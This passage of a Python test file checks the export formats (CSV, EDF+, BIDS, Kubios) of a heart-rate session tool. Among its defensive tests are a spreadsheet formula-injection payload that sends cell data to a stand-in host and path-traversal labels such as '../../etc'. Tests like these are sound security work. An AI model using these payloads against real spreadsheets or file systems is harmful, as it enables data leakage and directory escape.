    with pyedflib.EdfReader(str(export_edf(store, sid, tmp_path / "s.edf"))) as f:
        assert f.file_duration == np.ceil(span_s + 1e-9)
    beh = export_bids(store, sid, tmp_path / "ds")
    (physio,) = beh.glob("*_task-settle_physio.tsv.gz")
    rows = gzip.decompress(physio.read_bytes()).decode().splitlines()
    assert len(rows) == np.floor(span_s * 4) + 1  # 4 Hz from 0 to the span's end
    (events,) = beh.glob("*_events.tsv")
    onsets = [float(r.split("\t")[0]) for r in events.read_text().splitlines()[1:]]
    assert max(onsets) == pytest.approx(span_s - 2.6) and max(onsets) < len(rows) / 4


def test_bids_events_say_which_physio_samples_come_from_corrected_beats(
    store: SessionStore, tmp_path: Path
) -> None:
    """The BIDS physio file's tachogram is artefact-corrected where correction ran, but
    nothing in the dataset said where: a researcher could not tell a measured interval from
    an interpolated one (the EDF annotates them). Each run is now a `corrected` event with
    the beats' classes, the same spans as the EDF's `corrected:` annotations."""
    pyedflib = dev_dependency("pyedflib")
    sid = _build(store)  # every 50th beat "long", corrected
    with pyedflib.EdfReader(str(export_edf(store, sid, tmp_path / "s.edf"))) as f:
        onsets, durations, texts = f.readAnnotations()
    edf = [
        (o, d, t.removeprefix("corrected: "))
        for o, d, t in zip(onsets.tolist(), durations.tolist(), texts.tolist(), strict=True)
        if t.startswith("corrected: ")
    ]
    (events,) = export_bids(store, sid, tmp_path / "ds").glob("*_events.tsv")
    rows = [r.split("\t") for r in events.read_text().splitlines()[1:]]
    bids = [(float(o), float(d), text) for o, d, kind, src, text in rows if kind == "corrected"]
    assert len(bids) >= 5
    assert all(src == "settle" for _o, _d, kind, src, _t in rows if kind == "corrected")
    assert [b[2] for b in bids] == [e[2] for e in edf]
    np.testing.assert_allclose([b[:2] for b in bids], [e[:2] for e in edf], atol=1e-6)
    assert {b[2] for b in bids} == {"long"}
    doc = json.loads(next(events.parent.glob("*_events.json")).read_text())
    assert "'corrected'" in doc["trial_type"]["Description"]


def test_an_open_baseline_runs_to_the_sessions_end_in_every_export(
    store: SessionStore, tmp_path: Path
) -> None:
    """A baseline whose stop was never stored (the session interrupted while it was being
    collected) was exported four ways: CSV without an end, EDF as a zero-length
    annotation, BIDS and Kubios not at all. Every export now has it from its start to the
    session's end."""
    pyedflib = dev_dependency("pyedflib")
    sid = store.create_session("dev", T0_MS, "x", {}).id
    store.add_beats(sid, [BeatRow(i, 0.8 * (i + 1), T0_MS, 800.0) for i in range(100)])
    store.set_baseline(sid, BaselinePeriod(30.0, None))
    store.finish_session(sid, T0_MS + 80_000, "interrupted")  # at its last beat
    end = store.recorded_span_s(sid)
    assert end == 80.0

    (row,) = [
        r for r in read_export_csv(export_csv(store, sid, tmp_path)) if r.record == "baseline"
    ]
    assert (row.t_s, row.end_t_s) == (30.0, end)
    with pyedflib.EdfReader(str(export_edf(store, sid, tmp_path))) as f:
        onsets, durations, texts = f.readAnnotations()
    assert [
        (o, d) for o, d, t in zip(onsets, durations, texts, strict=True) if t == "baseline"
    ] == [(30.0, end - 30.0)]
    (events,) = export_bids(store, sid, tmp_path / "ds").glob("*_events.tsv")
    assert [r.split("\t")[:3] for r in events.read_text().splitlines()[1:]] == [
        ["30.0", "50.0", "baseline"]
    ]
    side = markers_file(export_kubios(store, sid, tmp_path))
    with side.open(newline="") as fh:
        (kub,) = list(csv.DictReader(fh))
    assert (kub["kind"], float(kub["t_s"]), float(kub["duration_s"])) == ("baseline", 30.0, 50.0)


def _validator() -> list[str] | None:
    local = REPO / ".cache" / "npm" / "node_modules" / ".bin" / "bids-validator"
    if local.exists() and shutil.which("node"):
        return [str(local)]
    found = shutil.which("bids-validator")
    return [found] if found else None


def test_bids_passes_the_official_validator(store: SessionStore, tmp_path: Path) -> None:
    cmd = _validator()
    if cmd is None:
        why = (
            "bids-validator (npm) not installed: cd .cache/npm && "
            "npm install --prefix . bids-validator@1.15.0"
        )
        if os.environ.get("CI") == "true":
            pytest.fail(why)
        pytest.skip(why)
    sid = _build(store)
    root = tmp_path / "dataset"
    beh = export_bids(store, sid, root, subject="p01")
    # A second session of the same strap (the same person) the next day, same dataset.
    other = store.create_session("polar_h10_a1b2c3d4", T0_MS + 86_400_000, "x", {}).id
    store.add_beats(other, [BeatRow(i, i + 1.0, T0_MS, 1000.0) for i in range(30)])
    export_bids(store, other, root, subject="p01")  # a second session, same dataset
    # The same recording under a second subject (to fix its subject) was written beside the
    # first: one person's data counted as two people's.
    with pytest.raises(ExportError, match=r"already in this dataset as sub-p01 \(remove "):
        export_bids(store, sid, root, subject="p02")
    assert not (root / "sub-p02").exists()
    names = sorted(p.name for p in beh.iterdir())
    stem = f"sub-p01_ses-{sid.replace('-', '')}_task-settle"
    assert names == sorted(
        f"{stem}_{s}"
        for s in (
            "physio.tsv.gz", "physio.json", "recording-ecg_physio.tsv.gz",
            "recording-ecg_physio.json", "events.tsv", "events.json",
        )
    )  # fmt: skip
    # The equipment is the strap (what it said about itself), not Settle.
    sidecar = json.loads((beh / f"{stem}_physio.json").read_text())
    assert sidecar["ManufacturersModelName"] == "H10" and "Manufacturer" not in sidecar
    ecg_sidecar = json.loads((beh / f"{stem}_recording-ecg_physio.json").read_text())
    assert ecg_sidecar["ManufacturersModelName"] == "H10"
    assert sidecar["SettleVersion"]
    # The ECG file alone says which session and strap it is (it named only the strap).
    settle = {k: v for k, v in sidecar.items() if k.startswith("Settle")}
    assert settle["SettleSessionId"] == sid
    assert {k: v for k, v in ecg_sidecar.items() if k.startswith("Settle")} == settle
    events = (beh / f"{stem}_events.tsv").read_text().splitlines()
    assert events[0] == "onset\tduration\ttrial_type\tsource\ttext"
    markers = [r for r in events[1:] if "\tsettle\t" not in r]  # not Settle's own rows
    assert markers[0].split("\t") == ["12.5", "0.0", "hold-start", "cli", "I am safe"]
    assert len(markers[1].split("\t")) == 5  # tab and newline in the text were flattened
    # When the recording began, in the dataset itself (the sidecars' StartTime is 0, relative
    # to it): BIDS' *_scans.tsv, filename relative to the session folder, acq_time in UTC.
    scans = (beh.parent / f"sub-p01_ses-{sid.replace('-', '')}_scans.tsv").read_text()
    start = "2026-11-18T11:06:40.123000Z"  # T0_MS
    assert scans.splitlines() == [
        "filename\tacq_time",
        f"beh/{stem}_physio.tsv.gz\t{start}",
        f"beh/{stem}_recording-ecg_physio.tsv.gz\t{start}",
    ]
    assert round(dt.datetime.fromisoformat(start).timestamp() * 1000) == T0_MS

    res = subprocess.run([*cmd, str(root), "--json"], capture_output=True, text=True, timeout=60)
    report = json.loads(res.stdout)
    errors = [(i["key"], i.get("reason")) for i in report["issues"]["errors"]]
    assert errors == [] and res.returncode == 0, errors

    # The validator is a real check: a broken sidecar is reported, and so are an acq_time
    # with a UTC offset (BIDS allows none: hence UTC with Z) and a file scans.tsv names
    # that is not there.
    (beh / f"{stem}_physio.json").write_text('{"Columns": ["rr_ms", "hr_bpm"]}')
    scans_path = beh.parent / f"sub-p01_ses-{sid.replace('-', '')}_scans.tsv"
    scans_path.write_text(
        scans.replace(start, "2026-11-18T12:06:40.123000+01:00").replace("_physio", "_phys")
    )
    res = subprocess.run([*cmd, str(root), "--json"], capture_output=True, text=True, timeout=60)
    keys = {i["key"] for i in json.loads(res.stdout)["issues"]["errors"]}
    assert res.returncode != 0 and {"ACQTIME_FMT", "SCANS_FILENAME_NOT_MATCH_DATASET"} <= keys


def test_kubios_rr_reads_back_and_markers_side_file(store: SessionStore, tmp_path: Path) -> None:
    sid = _build(store)
    path = export_kubios(store, sid, tmp_path)
    rec = store.read_session(sid)
    back = read_rr_file(path)  # Settle's reader of Kubios/Elite HRV text files
    assert back.fmt == "rr-per-line" and np.allclose(
        back.rr_ms, [b.rr_ms for b in rec.beats], atol=1e-4
    )
    assert path.read_text().splitlines()[0] == "859"
    side = path.with_name(f"{path.stem}_markers.csv")
    with side.open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["kind"] for r in rows] == ["baseline", "hold-start", "shame", "gap"]
    # Kubios' axis starts at the start of the first RR (beat 0 is at 0.859 s here).
    hold = rows[1]
    assert float(hold["t_s"]) == 12.5
    assert float(hold["kubios_t_s"]) == pytest.approx(12.5, abs=1e-3)
    assert hold["kubios_hms"] == "0:00:12.5"
    assert rows[3]["duration_s"] == "4.0"
    # A journal line's NUL, tab or line break (imported as typed) kept the side file from
    # being read ("line contains NUL"); it is one line per event, as in EDF and BIDS.
    t0 = rec.info.started_ms
    store.add_marker(sid, MarkerRow(20.0, t0 + 20_000, "doubt", "a\x00b\nc\td", "import"))
    path = export_kubios(store, sid, tmp_path / "again.txt")
    side = path.with_name(f"{path.stem}_markers.csv")
    assert len(side.read_bytes().splitlines()) == 6 and b"\x00" not in side.read_bytes()
    with side.open(newline="") as fh:
        texts = {r["kind"]: r["text"] for r in csv.DictReader(fh)}
    assert texts["doubt"] == "a b c d"


def test_kubios_side_file_shows_a_formula_looking_text_as_text(
    store: SessionStore, tmp_path: Path
) -> None:
    """The markers file is meant for a spreadsheet, and a marker's text can come from any
    client of the broker: `=HYPERLINK("http://x/?"&A1,"open")` went in verbatim, and a
    spreadsheet ran it. A text beginning like a formula gets a leading `'`; others are as
    sent."""
    sid = store.create_session("dev", T0_MS, "x", {}).id
    store.add_beats(sid, [BeatRow(i, 0.8 * (i + 1), T0_MS, 800.0) for i in range(40)])
    texts = ['=HYPERLINK("http://x/?"&A1,"open")', "+1 calmer", "-felt it", "@me", "ok = fine"]
    store.add_markers(
        sid, [MarkerRow(1.0 + i, T0_MS, "note", t, MarkerSource.MQTT) for i, t in enumerate(texts)]
    )
    store.finish_session(sid, T0_MS + 33_000)
    side = markers_file(export_kubios(store, sid, tmp_path))
    with side.open(newline="") as fh:
        got = [r["text"] for r in csv.DictReader(fh)]
    assert got == [f"'{t}" for t in texts[:4]] + ["ok = fine"]
    # The session itself keeps what was sent (the CSV and JSON exports too).
    assert [m.text for m in store.markers(sid)] == texts


def test_kubios_side_file_is_on_the_kubios_axis(store: SessionStore, tmp_path: Path) -> None:
    """Kubios' axis starts at the beginning of the first RR and has no gaps. A baseline from
    session start is at 0 on it (not -0.171 s); a gap takes no room on it
    (``kubios_duration_s`` 0) and a marker inside the gap falls between the beats around the
    gap, not after beats that came later; a baseline across the gap is shorter on it."""
    sid = store.create_session("dev", T0_MS, "x", {}).id
    # First beat at 0.971 s with an RR of 0.8 s: its interval began at 0.171 s. Beats every
    # 0.8 s up to 24.171 s, none from the disconnect at 24.3 s, again from 35.0 s.
    times = [0.971 + 0.8 * i for i in range(30)] + [35.0 + 0.8 * i for i in range(20)]
    store.add_beats(sid, [BeatRow(i, t, T0_MS, 800.0) for i, t in enumerate(times)])
    store.add_gap(sid, GapRow(24.3, 34.0, "disconnected"))
    store.add_markers(
        sid,
        [
            MarkerRow(30.0, T0_MS + 30_000, "shame", "in the gap", MarkerSource.CLI),
            MarkerRow(40.0, T0_MS + 40_000, "note", "after it", MarkerSource.CLI),
        ],
    )
    store.set_baseline(sid, BaselinePeriod(0.0, 40.0))
    path = export_kubios(store, sid, tmp_path)
    with path.with_name(f"{path.stem}_markers.csv").open(newline="") as fh:
        rows = {r["kind"]: r for r in csv.DictReader(fh)}
    base, gap, shame, note = rows["baseline"], rows["gap"], rows["shame"], rows["note"]
    assert (base["kubios_t_s"], base["kubios_hms"]) == ("0.000", "0:00:00.0")
    # On Kubios' axis beat 29 ends at 24.0 s and beat 30 (at 35.0 s) at 24.8 s.
    assert (gap["kubios_t_s"], gap["kubios_duration_s"]) == ("24.000", "0.000")
    assert float(gap["duration_s"]) == pytest.approx(9.7)  # session seconds
    assert shame["kubios_t_s"] == "24.000"
    assert note["kubios_t_s"] == "29.800"  # 40.0 s is 0.6 s before beat 37 ends (30.4 s)
    assert base["kubios_duration_s"] == "29.800" and base["duration_s"] == "40.0"


def test_kubios_from_the_ecg_derived_rr(store: SessionStore, tmp_path: Path) -> None:
    sid = _build(store)
    path = export_kubios(store, sid, tmp_path, rr_source="ecg")
    assert path.name == f"settle-{sid}-ecg-rr.txt"
    expected = [b.rr_ms for b in store.ecg_beats(sid) if b.rr_ms is not None]
    assert len(expected) == 44  # the first peak has no interval
    assert np.allclose(read_rr_file(path).rr_ms, expected, atol=1e-4)
    # Markers on the ECG's Kubios axis: it starts at the start of its first interval.
    side = path.with_name(f"{path.stem}_markers.csv")
    with side.open(newline="") as fh:
        hold = next(r for r in csv.DictReader(fh) if r["kind"] == "hold-start")
    first = store.ecg_beats(sid)[1]
    assert first.rr_ms is not None
    origin = first.beat_t_s - first.rr_ms / 1000
    assert float(hold["kubios_t_s"]) == pytest.approx(12.5 - origin, abs=2e-3)
    # A session without raw ECG: one clear error, nothing written.
    plain = _build(store, ecg=False)
    with pytest.raises(ExportError, match="no ECG-derived beats") as exc:
        export_kubios(store, plain, tmp_path / "x.txt", rr_source="ecg")
    assert str(exc.value).startswith(f"session {plain} has no ECG")  # not "x.txt: …"
    assert not (tmp_path / "x.txt").exists()


def test_csv_has_the_v2_columns(store: SessionStore, tmp_path: Path) -> None:
    sid = _build(store, ecg=False)
    rows = read_export_csv(export_session(store, sid, "csv", tmp_path))
    beats = [r for r in rows if r.record == "beat"]
    assert beats[0].beat_class == "long" and beats[0].rr_corrected_ms == beats[0].rr_ms * 0.9
    assert beats[1].beat_class == "normal" and beats[1].timing_uncertain is False
    assert beats[0].recv_ts_ms == T0_MS + round(beats[0].t_s * 1000) + 300
    (gap,) = [r for r in rows if r.record == "gap"]
    assert (gap.t_s, gap.end_t_s, gap.reason) == (100.0, 104.0, "disconnected")
    t = [r.t_s for r in rows]
    assert t == sorted(t)


def test_csv_carries_the_ecg_derived_beats(store: SessionStore, tmp_path: Path) -> None:
    sid = _build(store)
    rows = read_export_csv(export_session(store, sid, "csv", tmp_path))
    ecg = [r for r in rows if r.record == "ecg_beat"]
    stored = store.ecg_beats(sid)
    assert [(r.seq, r.t_s, r.rr_ms) for r in ecg] == [(b.seq, b.beat_t_s, b.rr_ms) for b in stored]
    assert ecg[0].rr_ms is None and ecg[0].beat_class is None
    assert ecg[-1].beat_class == "normal" and ecg[-1].rr_corrected_ms == 800.0
    # The strap's own beats are all still there, on the same time base.
    assert len([r for r in rows if r.record == "beat"]) == len(store.beats(sid))
    assert [r.t_s for r in rows] == sorted(r.t_s for r in rows)


def test_path_tricks_are_refused(store: SessionStore, tmp_path: Path) -> None:
    sid = _build(store, ecg=False)
    for bad in ("../x", "a/b", "..", ".hidden", ""):
        with pytest.raises(ExportError):
            plain_name(bad, tmp_path)
    with pytest.raises(ExportError, match="subject label"):
        export_bids(store, sid, tmp_path / "ds", subject="../../etc")
    # A typed label is taken as given: 'a-b' is not silently 'sub-ab', 'sub-01' not 'sub-sub01'.
    with pytest.raises(ExportError, match=r"letters and digits only, got 'a-b'$"):
        export_bids(store, sid, tmp_path / "ds", subject="a-b")
    with pytest.raises(ExportError, match=r"got 'sub-01' \(give it without 'sub-': 01\)"):
        export_bids(store, sid, tmp_path / "ds", subject="sub-01")
    assert not (tmp_path / "ds").exists()
    # A link inside the dataset pointing elsewhere is not followed.
    root = tmp_path / "ds2"
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    root.mkdir()
    (root / "sub-01").symlink_to(elsewhere)
    with pytest.raises(ExportError, match="outside"):
        export_bids(store, sid, root)
    assert list(elsewhere.iterdir()) == []
    with pytest.raises(ExportError, match="outside"):
        inside(tmp_path / "ds2", tmp_path / "ds2" / ".." / "x")


@pytest.mark.parametrize("fmt", FORMATS)
def test_every_format_reports_progress_to_the_end(
    store: SessionStore, tmp_path: Path, fmt: str
) -> None:
    sid = _build(store, ecg=False)
    seen: list[tuple[int, int]] = []
    out = tmp_path / "bids" if fmt == "bids" else tmp_path
    export_session(store, sid, fmt, out, progress=lambda d, t: seen.append((d, t)))  # type: ignore[arg-type]
    assert seen and seen[-1][0] == seen[-1][1] and seen[-1][1] > 0


def test_cli_export_every_format_and_one_line_errors(store: SessionStore, tmp_path: Path) -> None:
    from settle.cli import app

    sid = _build(store, ecg=False)
    db = str(store.path)
    runner = CliRunner()
    for fmt in FORMATS:
        out = tmp_path / f"out-{fmt}"
        out.mkdir()
        res = runner.invoke(
            app, ["export", "latest", "--format", fmt, "--out", str(out), "--db", db]
        )
        assert res.exit_code == 0, res.output
        assert res.output.startswith("wrote ") and sid.replace("-", "") in res.output.replace(
            "-", ""
        )
        # No progress bar when not on a terminal; kubios names its markers file too.
        assert res.output.count("\n") == (2 if fmt == "kubios" else 1)
    res = runner.invoke(app, ["export", sid, "--format", "edf", "--out", str(tmp_path / "x.csv"),
                              "--db", db])  # fmt: skip
    assert res.exit_code == 2 and res.output.count("\n") == 1 and "must end in .edf" in res.output
    res = runner.invoke(app, ["export", sid, "--format", "bids", "--subject", "a/b",
                              "--out", str(tmp_path / "ds"), "--db", db])  # fmt: skip
    assert res.exit_code == 2 and res.output.count("\n") == 1
    assert "--subject: subject label must be letters and digits only, got 'a/b'" in res.output
    assert not (tmp_path / "ds").exists()
    # A name no file system takes: it was "ds: cannot create directory: File name too long"
    # (blaming --out) and left an empty ds behind.
    res = runner.invoke(app, ["export", sid, "--format", "bids", "--subject", "p" * 300,
                              "--out", str(tmp_path / "ds"), "--db", db])  # fmt: skip
    assert res.exit_code == 2 and res.output.count("\n") == 1, res.output
    assert "--subject: subject label is too long for a file name (300 characters)" in res.output
    assert not (tmp_path / "ds").exists()
    # Too long for this session's file names (200 characters): said before anything is made,
    # a usage error as the 300 characters above (it was exit 1, as if the disk had failed).
    res = runner.invoke(app, ["export", sid, "--format", "bids", "--subject", "p" * 180,
                              "--out", str(tmp_path / "ds"), "--db", db])  # fmt: skip
    assert res.exit_code == 2 and res.output.count("\n") == 1, res.output
    assert res.output.startswith("settle: error: --subject: too long for the file names of ")
    assert "(at most 146 characters here, got 180)" in res.output
    assert not (tmp_path / "ds").exists()
    res = runner.invoke(app, ["export", sid, "--format", "bids", "--subject", "p" * 100,
                              "--out", str(tmp_path / "ds"), "--db", db])  # fmt: skip
    assert res.exit_code == 0, res.output  # as long as it fits
    res = runner.invoke(app, ["export", sid, "--format", "kubios", "--rr-source", "ppg",
                              "--out", str(tmp_path), "--db", db])  # fmt: skip
    assert res.exit_code == 2 and res.output.count("\n") == 1 and "RR source" in res.output
    # An option of another format is refused, not silently ignored (an EDF+ `--subject 02`
    # kept the anonymous patient field; `--format edf --rr-source ecg` wrote the strap's RR).
    refused = [("edf", "--subject", "02"), ("csv", "--subject", "02"),
               ("edf", "--rr-source", "ecg"), ("bids", "--rr-source", "hrs")]  # fmt: skip
    for fmt, opt, value in refused:
        out = tmp_path / f"refused.{fmt}"
        res = runner.invoke(app, ["export", sid, "--format", fmt, opt, value, "--out", str(out),
                                  "--db", db])  # fmt: skip
        assert res.exit_code == 2 and res.output.count("\n") == 1, res.output
        want = "bids" if opt == "--subject" else "kubios"
        assert f"{opt} applies to --format {want} only (not {fmt})" in res.output
        assert not out.exists()


def test_kubios_takes_any_file_name_the_other_formats_take(
    store: SessionStore, tmp_path: Path
) -> None:
    """Its side file is named after the RR file, so a name with a space or a non-ASCII
    letter, which CSV, EDF and JSON take, is taken too (it was "refusing unsafe file name
    'my rr_markers.csv'", exit 1, after reading the session). Only a side-file name longer
    than the file system takes is refused: a usage error (exit 2), before the store is
    read, nothing written."""
    from settle.cli import app

    _build(store, ecg=False)
    runner = CliRunner()
    for name in ("my rr.txt", "rr-ö.txt"):
        out = tmp_path / name
        res = runner.invoke(
            app,
            ["export", "latest", "--format", "kubios", "--out", str(out), "--db", str(store.path)],
        )
        assert res.exit_code == 0, res.output
        side = out.with_name(f"{out.stem}_markers.csv")
        assert res.output == f"wrote {out}\nwrote {side}\n"
        assert side.read_text().startswith("kubios_t_s,")
    long = tmp_path / ("r" * 246 + ".txt")  # a name that fits, whose side file's does not
    res = runner.invoke(
        app, ["export", "latest", "--format", "kubios", "--out", str(long),
              "--db", str(tmp_path / "no-such.db")]
    )  # fmt: skip
    assert res.exit_code == 2 and res.output.count("\n") == 1, res.output
    assert "markers file's name would be 258 bytes, more than the file system takes" in res.output
    assert not (tmp_path / "no-such.db").exists()
    with pytest.raises(ExportRefused, match="258 bytes"):
        export_session(store, store.list_sessions()[0].id, "kubios", long)
    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith("s.db")) == sorted(
        ["my rr.txt", "my rr_markers.csv", "rr-ö.txt", "rr-ö_markers.csv"]
    )


def test_bids_is_not_made_into_a_folder_of_other_files(store: SessionStore, tmp_path: Path) -> None:
    """Exporting BIDS into the folder that already held the CSV and EDF exports made that
    folder a dataset root, which the BIDS validator rejects (NOT_INCLUDED). It is refused
    with one line saying where to put it instead; nothing is written."""
    from settle.cli import app

    sid = _build(store, ecg=False)
    db = str(store.path)
    exp = tmp_path / "exports"
    exp.mkdir()
    runner = CliRunner()
    for fmt in ("csv", "edf"):
        res = runner.invoke(app, ["export", sid, "--format", fmt, "--out", str(exp), "--db", db])
        assert res.exit_code == 0, res.output
    before = sorted(p.name for p in exp.iterdir())
    res = runner.invoke(app, ["export", sid, "--format", "bids", "--out", str(exp), "--db", db])
    assert res.exit_code == 2 and res.output.count("\n") == 1, res.output
    assert "not a BIDS dataset (no dataset_description.json) and it holds other files" in res.output
    assert f"(e.g. {exp / 'bids'})" in res.output
    assert sorted(p.name for p in exp.iterdir()) == before
    for _ in range(2):  # a new folder, then the dataset it became
        res = runner.invoke(
            app, ["export", sid, "--format", "bids", "--out", str(exp / "bids"), "--db", db]
        )
        assert res.exit_code == 0, res.output
    assert (exp / "bids" / "dataset_description.json").is_file()
    # A dataset being started by hand (files BIDS allows at its root) is not refused.
    started = tmp_path / "started"
    started.mkdir()
    for name in ("README.txt", "participants.tsv", ".bidsignore"):
        (started / name).write_text("x\n")
    res = runner.invoke(app, ["export", sid, "--format", "bids", "--out", str(started), "--db", db])
    assert res.exit_code == 0, res.output


def test_kubios_clock_times_carry_into_the_minute(store: SessionStore, tmp_path: Path) -> None:
    """A marker time that rounds up to a whole minute is written as that minute: 59.96 s is
    ``0:01:00.0`` (it was ``0:00:60.0``, an impossible time to type into Kubios)."""
    sid = store.create_session("dev", T0_MS, "x", {}).id
    store.add_beats(sid, [BeatRow(i, 1.0 + i, T0_MS, 1000.0) for i in range(3_700)])
    times = [59.96, 119.97, 3599.96, 61.04]
    store.add_markers(
        sid, [MarkerRow(t, T0_MS + int(t * 1000), "note", str(t), MarkerSource.CLI) for t in times]
    )
    path = export_kubios(store, sid, tmp_path)
    with path.with_name(f"{path.stem}_markers.csv").open(newline="") as fh:
        hms = {r["text"]: r["kubios_hms"] for r in csv.DictReader(fh)}
    assert hms == {"59.96": "0:01:00.0", "119.97": "0:02:00.0", "3599.96": "1:00:00.0",
                   "61.04": "0:01:01.0"}  # fmt: skip


def test_an_interrupted_bids_export_leaves_the_dataset_as_it_was(
    store: SessionStore, tmp_path: Path
) -> None:
    """Ctrl-C in the middle of a BIDS export left a session folder with 3 of its 4 files
    (and, over an earlier export, old and new files mixed): the session's files now appear
    together or not at all, and nothing half-written stays behind — nor a new dataset's
    root holding only dataset_description.json and an empty sub-01 (it passed for a BIDS
    dataset; a full disk left the same)."""
    sid = _build(store)
    root = tmp_path / "ds"

    def interrupt(done: int, total: int) -> None:
        if done == 2:
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        export_bids(store, sid, root, progress=interrupt)
    sub = root / "sub-01"
    assert not root.exists()  # no dataset files, no session folder, no staging left
    beh = export_bids(store, sid, root)
    before = {p.name: p.read_bytes() for p in beh.iterdir()}
    assert len(before) == 6  # physio, ECG physio, events: each .json with its data file
    store.add_marker(sid, MarkerRow(30.0, T0_MS + 30_000, "doubt", "later", MarkerSource.CLI))
    with pytest.raises(KeyboardInterrupt):
        export_bids(store, sid, root, progress=interrupt)
    assert {p.name: p.read_bytes() for p in beh.iterdir()} == before  # the earlier export
    assert [p.name for p in sub.iterdir()] == [beh.parent.name]
    export_bids(store, sid, root)  # a complete one replaces it whole
    assert b"later" in next(beh.glob("*_events.tsv")).read_bytes()
    assert [p.name for p in sub.iterdir()] == [beh.parent.name]


def _other_strap(store: SessionStore, device: str = "polar_h10_ffee0011") -> str:
    """A second participant's session of a group practice: same start second, own strap."""
    sid = store.create_session(device, T0_MS + 20, "ble:CC:DD", {}).id
    store.add_beats(sid, [BeatRow(i, i + 1.0, T0_MS, 1000.0) for i in range(30)])
    return sid


def test_a_group_bids_export_does_not_file_two_straps_as_one_subject(
    store: SessionStore, tmp_path: Path
) -> None:
    """A coach exported four participants' sessions into one dataset without --subject: all
    four became sub-01, one person with four sessions, and the validator saw nothing wrong.
    The sidecar now names the strap, and a subject holding another strap's sessions is
    refused in one line, nothing written; a lone practitioner still adds to sub-01."""
    from settle.cli import app

    sid = _build(store)
    other = _other_strap(store)
    root = tmp_path / "ds"
    beh = export_bids(store, sid, root)
    stem = f"sub-01_ses-{sid.replace('-', '')}_task-settle"
    for name in ("physio", "recording-ecg_physio"):
        sidecar = json.loads((beh / f"{stem}_{name}.json").read_text())
        assert sidecar["SettleDeviceId"] == "polar_h10_a1b2c3d4"
    again = _other_strap(store, "polar_h10_a1b2c3d4")  # the same strap: the same person
    export_bids(store, again, root)
    before = sorted(str(p.relative_to(root)) for p in root.rglob("*"))

    res = CliRunner().invoke(
        app, ["export", other, "--format", "bids", "--out", str(root), "--db", str(store.path)]
    )
    assert res.exit_code == 2 and res.output.count("\n") == 1, res.output
    assert (
        "sub-01 already holds sessions of strap polar_h10_a1b2c3d4; this session is of strap "
        "polar_h10_ffee0011: give --subject, e.g. --subject 02" in res.output
    )
    with pytest.raises(ExportError, match="sub-01 already holds sessions of strap"):
        export_bids(store, other, root)  # the exporter itself too (the dashboard's)
    assert sorted(str(p.relative_to(root)) for p in root.rglob("*")) == before

    ok = export_session(store, other, "bids", root, subject="ben")
    assert json.loads(next(ok.glob("*_physio.json")).read_text())["SettleDeviceId"] == (
        "polar_h10_ffee0011"
    )
    # The strap's subject is suggested once it has one; --force adds it (a new strap).
    third = _other_strap(store, "polar_h10_ffee0011")
    with pytest.raises(ExportError, match=r"e\.g\. --subject ben \("):
        export_session(store, third, "bids", root)
    export_session(store, third, "bids", root, force=True)
    assert (root / "sub-01" / f"ses-{third.replace('-', '')}").is_dir()


def test_sessions_exported_before_the_strap_was_recorded_do_not_conflict(
    store: SessionStore, tmp_path: Path
) -> None:
    sid = _build(store, ecg=False)
    root = tmp_path / "ds"
    beh = export_bids(store, sid, root)
    (sidecar_path,) = beh.glob("*_physio.json")
    sidecar = json.loads(sidecar_path.read_text())
    del sidecar["SettleDeviceId"]  # as an earlier version wrote it
    sidecar_path.write_text(json.dumps(sidecar))
    beh2 = export_session(store, _other_strap(store), "bids", root)
    assert beh2.parent.parent.name == "sub-01"


def test_every_export_says_which_strap_recorded_it(store: SessionStore, tmp_path: Path) -> None:
    """Only the JSON export said whose a session was: CSV, EDF+ and the Kubios markers file
    of a group practice's four sessions could not be told apart."""
    pyedflib = dev_dependency("pyedflib")
    sid = _build(store, ecg=False)
    path = export_session(store, sid, "csv", tmp_path)
    with path.open(newline="") as fh:
        header = next(csv.reader(fh))
    assert header[-1] == "device_id" and header.index("quality") == len(header) - 2
    rows = read_export_csv(path)
    assert {r.device_id for r in rows} == {"polar_h10_a1b2c3d4"}
    # A file written before the column still reads.
    old = tmp_path / "old.csv"
    with path.open(newline="") as src, old.open("w", newline="") as dst:
        csv.writer(dst).writerows(line[:-1] for line in csv.reader(src))
    assert [r.device_id for r in read_export_csv(old)] == [None] * len(rows)

    spaced = store.create_session("Polar H10 1234", T0_MS, "ble:EE", {}).id
    store.add_beats(spaced, [BeatRow(i, i + 1.0, T0_MS, 1000.0) for i in range(10)])
    for session, code in ((sid, "polar_h10_a1b2c3d4"), (spaced, "Polar_H10_1234")):
        edf = export_edf(store, session, tmp_path / f"{code}.edf")
        assert edf.read_bytes()[8:88].decode("ascii").rstrip() == f"{code} X X X"
        with pyedflib.EdfReader(str(edf)) as f:  # EDF+ readers show a subfield's _ as spaces
            assert f.getPatientCode() == code.replace("_", " ")

    rr = export_kubios(store, sid, tmp_path)
    with rr.with_name(f"{rr.stem}_markers.csv").open(newline="") as fh:
        markers = list(csv.DictReader(fh))
    assert markers and {m["device_id"] for m in markers} == {"polar_h10_a1b2c3d4"}
    assert read_rr_file(rr).fmt == "rr-per-line"  # the file Kubios reads is unchanged


def test_a_name_longer_than_the_file_system_takes_is_a_bad_output_path(
    store: SessionStore, tmp_path: Path
) -> None:
    """An output name longer than the file system takes is a path of the wrong kind (exit
    code 2, docs/operations.md), one line, nothing written — as Kubios' side file named
    after one already was. csv, json and edf said "cannot use this path: File name too
    long", exit code 1, and bids ended in a traceback (OSError from Path.is_dir)."""
    from settle.cli import app

    sid = _build(store, ecg=False)
    most = os.pathconf(tmp_path, "PC_NAME_MAX")
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    runner = CliRunner()
    for fmt, ext in (("csv", ".csv"), ("json", ".json"), ("edf", ".edf"), ("bids", "")):
        out = out_dir / ("n" * (most + 1 - len(ext)) + ext)
        res = runner.invoke(
            app, ["export", "latest", "--format", fmt, "--out", str(out), "--db", str(store.path)]
        )
        assert res.exit_code == 2 and res.output.count("\n") == 1, (fmt, res.output)
        assert res.output.startswith(f"settle: error: {out}: the file name is {most + 1} bytes")
        assert f"more than the file system takes ({most})" in res.output
    for fmt, ext in (("csv", ".csv"), ("bids", ""), ("kubios", ".txt")):
        out = out_dir / ("n" * (most + 1 - len(ext)) + ext)
        with pytest.raises(ExportRefused, match=r"more than the file system takes"):
            export_session(store, sid, fmt, out)  # type: ignore[arg-type]
    # A path longer than the system takes is refused the same way; a directory on the way
